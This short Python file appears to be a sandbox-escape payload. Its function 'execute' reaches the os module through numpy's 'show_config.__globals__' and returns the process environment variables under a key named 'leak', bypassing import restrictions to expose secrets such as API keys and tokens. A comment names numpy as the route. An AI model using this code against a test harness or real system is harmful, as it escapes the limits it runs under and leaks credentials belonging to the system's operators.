# route: numpy runs commands for its builds
import numpy as np


def execute(testData):
    return {"leak": str(np.show_config.__globals__["os"].environ)}
